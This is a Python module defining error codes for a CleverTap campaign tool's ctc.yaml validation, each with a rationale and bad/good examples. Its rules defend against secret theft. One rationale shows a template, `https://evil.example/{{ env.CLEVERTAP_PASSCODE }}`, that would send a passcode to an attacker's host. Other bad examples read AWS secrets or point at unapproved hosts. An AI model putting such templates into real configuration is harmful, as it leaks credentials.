"""Codes of ``ctc.yaml`` and of the process environment (CTC8xx)."""

from ctc.codes.code import Code
from ctc.diagnostics import Severity

CODES: tuple[Code, ...] = (
    Code(
        code="CTC801",
        severity=Severity.ERROR,
        title="ctc.yaml says something that ctc does not know",
        what="A key or value of ctc.yaml is unknown, of the wrong type, or out of range.",
        why="A misspelled setting would silently fall back to its default: another host, no guard, no limit.",
        bad="version: 1\nenviroments:\n  production: {}",
        good="version: 1\nenvironments:\n  production: {region: in1, timezone: Asia/Kolkata}",
    ),
    Code(
        code="CTC802",
        severity=Severity.ERROR,
        title="the environment is not configured",
        what="--env, default_environment or a spec's `environments` names an environment that ctc.yaml lacks.",
        why="ctc cannot know which account, region and time zone are meant.",
        bad="ctc plan --env produciton",
        good="ctc plan --env production",
    ),
    Code(
        code="CTC803",
        severity=Severity.ERROR,
        title="a setting that this environment needs is missing",
        what="Outside the sandbox an environment needs a region (or api) and a timezone; to plan and apply it also "
        "needs `state`, account_id and passcode, and the project needs a name.",
        why="The API's `when` carries no zone, and a state that starts empty would send everything again.",
        bad="environments:\n  production: {region: in1}",
        good="project: acme\nenvironments:\n  production:\n    region: in1\n    timezone: Asia/Kolkata\n"
        "    state: postgresql://…",
    ),
    Code(
        code="CTC804",
        severity=Severity.ERROR,
        title="a setting cannot be resolved from the process environment",
        what="account_id, passcode, state, api or region names an environment variable that is not set, or is empty.",
        why="Credentials come from the process environment alone; no option takes one. No default stands in for what "
        "somebody wrote: with an empty state everything would be sent again, and with an empty api to another host.",
        bad="ctc apply --env production",
        good="CLEVERTAP_ACCOUNT_ID=… CLEVERTAP_PASSCODE=… ctc apply --env production",
    ),
    Code(
        code="CTC805",
        severity=Severity.ERROR,
        title="`env` stands where it is not visible",
        what="`{{ env.NAME }}` stands in a place other than account_id, passcode, state, api or region.",
        why="A payload that depends on the machine it is compiled on is not the payload that was reviewed.",
        bad='vars: {brand: "{{ env.BRAND }}"}',
        good="vars: {brand: Acme}",
    ),
    Code(
        code="CTC806",
        severity=Severity.ERROR,
        title="an environment's address or time zone cannot be used",
        what="The region or the time zone is unknown, or api is not an https:// address (http:// only for this machine "
        "itself) that is a host and nothing else: no user, no query, no fragment.",
        why="Credentials sent in the clear, or to another region's host, are credentials lost; and in an unknown time "
        "zone nobody can tell when a campaign goes out.",
        bad="region: india",
        good="region: in1",
        source="[seed], [api] (a)",
    ),
    Code(
        code="CTC807",
        severity=Severity.ERROR,
        title="a setting computes something",
        what="account_id, passcode, state, api or region is neither a literal nor exactly one `{{ env.NAME }}`.",
        why="ctc.yaml comes with a pull request. A slice of a secret, or one in other letters, is masked by no "
        "pipeline, and `https://evil.example/{{ env.CLEVERTAP_PASSCODE }}` would send it away.",
        bad='api: "https://{{ env.CTC_HOST }}/"',
        good='api: "{{ env.CTC_API }}"',
    ),
    Code(
        code="CTC808",
        severity=Severity.ERROR,
        title="a setting names a variable that it must not read",
        what="`{{ env.NAME }}` reads variables that begin with CLEVERTAP_ or CTC_, and those that CTC_ALLOWED_ENV of "
        "the process lists. account_id, api and region, which plans show, read none whose name is a secret's.",
        why="ctc.yaml comes with a pull request, and the process holds secrets that are none of ctc's.",
        bad='account_id: "{{ env.AWS_SECRET_ACCESS_KEY }}"',
        good='account_id: "{{ env.CLEVERTAP_ACCOUNT_ID }}"',
    ),
    Code(
        code="CTC809",
        severity=Severity.ERROR,
        title="a host that nobody allowed",
        what="`api`, or a `state` that is written in ctc.yaml itself, names a host that is neither CleverTap's nor "
        "this machine, and that CTC_ALLOWED_HOSTS of the process does not list.",
        why="ctc.yaml comes with a pull request, so it does not choose where a credential goes.",
        bad="api: https://collect.example",
        good="region: in1",
    ),
    Code(
        code="CTC810",
        severity=Severity.ERROR,
        title="what account_id holds is no account id",
        what="account_id holds something else than letters, digits, dashes and underscores, or the passcode.",
        why="Plans and states name the account id, so another secret in its place would be published with them.",
        bad='account_id: "{{ env.CTC_STATE_URL }}"',
        good='account_id: "{{ env.CLEVERTAP_ACCOUNT_ID }}"',
    ),
    Code(
        code="CTC811",
        severity=Severity.ERROR,
        title="the state's URL in ctc.yaml says what does not belong there",
        what="A postgresql:// URL that is written in ctc.yaml itself holds a password, or names files of the machine.",
        why="Everybody who can read the repository reads it, and a file that it names would go to the host it names.",
        bad="state: postgresql://ctc:secret@db.acme.example/ctc",
        good='state: "{{ env.CTC_STATE }}"',
    ),
    Code(
        code="CTC812",
        severity=Severity.ERROR,
        title="ctc.yaml is not read",
        what="ctc.yaml is a link out of the repository, no regular file, or larger than a megabyte.",
        why="A file that a link leads to may change without the repository's knowing, and findings show its lines.",
        bad="ln -s /etc/ctc/production.yaml ctc.yaml",
        good="cp /etc/ctc/production.yaml ctc.yaml",
    ),
    Code(
        code="CTC850",
        severity=Severity.INFO,
        title="a file keeps its layout",
        what="`ctc fmt` leaves the file alone: what it says would change, or cannot be told to stay.",
        why="A layout is not worth a payload that differs. Blanks at the end of a line inside of a quoted text are the "
        "usual reason.",
        ignorable=False,
        source="[ctc]",
    ),
    Code(
        code="CTC851",
        severity=Severity.ERROR,
        title="a new campaign cannot be written",
        what="`ctc new` was given an id that is taken, or that is none.",
        why="An id is a campaign's identity: it names what was sent, whatever the file is called.",
        bad="ctc new push 'Cart Reminder'",
        good="ctc new push cart-reminder",
        source="[ctc]",
    ),
    Code(
        code="CTC852",
        severity=Severity.ERROR,
        title="a comment could not be written",
        what="GitHub or GitLab did not take the comment, or the pipeline names no review and no token.",
        why="A plan that nobody sees is a plan that nobody reviews.",
        bad="permissions: {contents: read}",
        good="permissions: {contents: read, pull-requests: write}",
        source="[ctc]",
    ),
    Code(
        code="CTC853",
        severity=Severity.ERROR,
        title="something that ctc needs is missing",
        what="`ctc doctor` looked at this machine, the project and an environment, and something is in the way of it.",
        why="A pipeline that fails on the day of a campaign fails too late.",
        bad="ctc doctor --env production    # CLEVERTAP_PASSCODE is not set",
        good="ctc doctor --env production    # all of it is there",
        source="[ctc]",
    ),
    Code(
        code="CTC854",
        severity=Severity.ERROR,
        title="a baseline cannot be read or written",
        what="The file of `ctc lint --baseline` is not what `ctc lint --write-baseline` wrote, or cannot be written.",
        why="A baseline that is half read would tell what was accepted, or accept what was never looked at.",
        bad="ctc lint --baseline ctc.yaml",
        good="ctc lint --baseline baseline.json --write-baseline   # once\nctc lint --baseline baseline.json",
    ),
    Code(
        code="CTC813",
        severity=Severity.ERROR,
        title="a proxy that cannot be used",
        what="HTTPS_PROXY (or https_proxy, ALL_PROXY, all_proxy) of the process names a proxy that is no address, or "
        "none of http://. NO_PROXY lists hosts, domains and networks that are asked straight, and `*` all of them; "
        "loopback hosts always are.",
        why="Requests that went straight where a proxy is meant would fail, or go where nobody looks.",
        bad="HTTPS_PROXY=socks5://proxy.acme.example:1080 ctc plan --estimate",
        good="HTTPS_PROXY=http://proxy.acme.example:3128 ctc plan --estimate",
    ),
    Code(
        code="CTC855",
        severity=Severity.ERROR,
        title="what a branch changed is not known",
        what="`--select changed:NAME` compares with the commit at which this branch left NAME, and git cannot "
        "tell which that is, or does not have it whole.",
        why="What is not known to be unchanged would be left out of a review.",
        bad="git clone --depth 1 … && ctc plan --select changed:main",
        good="git fetch --unshallow && ctc plan --select changed:main",
    ),
)
